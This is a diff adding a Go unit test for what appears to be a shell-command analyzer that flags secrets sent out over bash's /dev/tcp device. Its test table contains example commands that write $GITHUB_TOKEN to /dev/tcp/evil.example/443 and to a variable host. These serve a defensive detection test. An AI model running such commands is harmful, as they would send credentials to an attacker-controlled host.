@@ -862,3 +862,21 @@ func TestCmdModified(t *testing.T) {
 		}
 	}
 }
+
+// TestSocketEgressHosts checks that a credential printed to bash's network
+// device is judged against the device's host: to its own home it is not
+// egress, elsewhere or to a host not known it is.
+func TestSocketEgressHosts(t *testing.T) {
+	a := testAnalyzer(t)
+	for cmd, want := range map[string]bool{
+		`echo "$GITHUB_TOKEN" > /dev/tcp/api.github.com/443`: false,
+		`echo "$GITHUB_TOKEN" > /dev/tcp/evil.example/443`:   true,
+		`echo "$GITHUB_TOKEN" > "/dev/tcp/$H/443"`:           true,
+		`echo hello > /dev/tcp/evil.example/443`:             false,
+	} {
+		got := slices.ContainsFunc(a.Command(cmd, testEnv()).Findings, func(f Finding) bool { return f.Rule == ruleSecretEgress })
+		if got != want {
+			t.Errorf("%s: secret-egress %v, want %v", cmd, got, want)
+		}
+	}
+}
